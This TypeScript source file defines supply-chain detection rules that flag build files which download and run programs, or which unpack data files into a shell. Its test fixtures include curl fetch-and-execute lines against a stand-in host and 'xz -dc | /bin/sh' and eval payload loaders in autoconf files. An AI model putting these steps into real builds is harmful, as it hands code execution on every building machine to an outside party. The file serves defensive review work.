// Flags steps of a build that run what they fetch or what they unpack out of a file of data.
import { rule } from '../../../core/rule.ts'
import { excerpt } from '../../../core/well-formed.ts'
import { judgeChange } from '../../handler.ts'
import type { Change } from '../../model.ts'
import type { Report } from '../../report.ts'

interface Facts {
  readonly shown: string
}

const file = (path: string, text: string): string => `--- a/${path}\n+++ b/${path}\n@@ -1,2 +1,4 @@\n${text}`

export const buildFetches = rule({
  id: 'code.supply.build_fetches',
  severity: 'blocker',
  category: 'security',
  evidence: 'B',
  source: 'https://cwe.mitre.org/data/definitions/494.html',
  message: ({ shown }: Facts) =>
    `\`${shown}\` fetches a program while the package is built, and the build runs it: whoever serves it runs commands on every machine that builds this.`,
  fix: 'Ship what is needed with its digest, or name it as a dependency.',
  fires: [
    file(
      'build.rs',
      ' fn main() {\n+    Command::new("curl").args(["-o", "/tmp/gen", "https://tools.orchard-lane.top/gen"]).status();\n+    Command::new("/tmp/gen").status();\n }\n',
    ),
    file(
      'setup.py',
      ' import os\n+os.system("curl -fsSL https://tools.orchard-lane.top/gen -o gen && chmod +x gen && ./gen")\n setup()\n',
    ),
  ],
  quiet: [
    file(
      'build.rs',
      ' fn main() {\n+    Command::new("protoc").args(["--version"]).status();\n     compile();\n }\n',
    ),
    file(
      'tools/fetch.py',
      ' import os\n+os.system("curl -fsSLO https://data.orchard-lane.top/rows.csv")\n load()\n',
    ),
  ],
})

export const dataRuns = rule({
  id: 'code.supply.data_runs',
  severity: 'blocker',
  category: 'security',
  evidence: 'B',
  source: 'https://cwe.mitre.org/data/definitions/506.html',
  message: ({ shown }: Facts) =>
    `\`${shown}\` unpacks a file of data and runs what comes out: nobody who reads the change sees what runs.`,
  fix: 'Put what the build needs into readable sources.',
  fires: [
    file(
      'configure.ac',
      ' AC_PROG_CC\n+tail -c +900 "$srcdir/tests/odd.bin" | xz -dc 2>/dev/null | /bin/sh\n AC_OUTPUT\n',
    ),
    file(
      'm4/check.m4',
      ' AC_DEFUN([CHECK], [\n+  out=`sed -n 4p "$srcdir/tests/odd.bin" | gzip -dc`\n+  eval "$out"\n ])\n',
    ),
  ],
  quiet: [
    file('configure.ac', ' AC_PROG_CC\n+AC_CHECK_FUNCS([getrandom])\n AC_OUTPUT\n'),
    file('Makefile.am', ' check:\n+\txz -dc tests/odd.xz > tests/odd.txt\n \t./run-tests\n'),
  ],
})

/** Files that a build runs by itself, on every machine that builds the package. */
const BUILD_FILE =
  /(?:^|\/)(?:build\.rs|setup\.py|binding\.gyp|extconf\.rb|conanfile\.py|configure(?:\.ac|\.in)?|Makefile(?:\.am|\.in)?|CMakeLists\.txt|[\w.-]{1,60}\.(?:m4|cmake|mk))$/
const FETCHES =
  /\bCommand::new\(\s?"(?:curl|wget)"\)|\b(?:curl|wget)\b[^\n]{0,200}https?:\/\/|\burllib\.request\.urlretrieve\(|\bUri\.open\(|\bfile\(DOWNLOAD\b/i
const RUNS =
  /chmod \+x|\b0o?755\b|from_mode\(|\bCommand::new\(\s?&|\|\s?(?:\/bin\/)?(?:ba|z|da)?sh\b|&& ?\(?\.?\/|\bexecute_process\b|\bos\.chmod\b|\bsubprocess\.\w+\(\s?\[?\s?(?:tool|helper|path|exe|bin)/
const UNPACKS = /\b(?:xz|gzip|bzip2|zstd|lzma|base64|openssl|uudecode|tr|xxd)\b[^\n|;]{0,120}/
const TO_SHELL = /\|\s?(?:\/bin\/|\/usr\/bin\/)?(?:ba|z|da|k)?sh\b/
const KEPT =
  /\b(\w{1,40})=(?:`|"?\$\()[^\n]{0,300}\b(?:xz|gzip|bzip2|zstd|lzma|base64|openssl|uudecode|xxd)\b/

function judgeBuild(change: Change, report: Report): void {
  const { after, before } = change
  if (!BUILD_FILE.test(change.file.path)) return
  report.budget.spend(after.text.length)
  const written = after.lines.filter(({ changed }) => changed)
  const lineOf = ({ at, length }: (typeof written)[number]): string => after.code.slice(at, at + length)
  // A command may go on in the next line.
  const text = written
    .map(lineOf)
    .join('\n')
    .replace(/\\\n\s*/g, ' ')
  const tell = (found: typeof buildFetches | typeof dataRuns, pattern: RegExp): void => {
    const line = written.find((one) => pattern.test(lineOf(one)))
    if (line === undefined || before.text.includes(lineOf(line).trim())) return
    report.found(found, after, [line.at, line.at + line.length], { shown: excerpt(lineOf(line).trim(), 100) })
  }
  if (FETCHES.test(text) && RUNS.test(text)) tell(buildFetches, FETCHES)
  else if (FETCHES.test(text) && /\bCommand::new\(/.test(text.replace(FETCHES, '')))
    tell(buildFetches, FETCHES)
  const isPiped = text.split('\n').some((line) => UNPACKS.test(line) && TO_SHELL.test(line))
  if (isPiped) tell(dataRuns, TO_SHELL)
  const kept = KEPT.exec(text)?.[1]
  if (kept !== undefined && new RegExp(`\\beval\\s{1,4}"?\\$\\{?${kept}\\b`).test(text))
    tell(dataRuns, /\beval\b/)
}

export const buildScripts = judgeChange(judgeBuild)
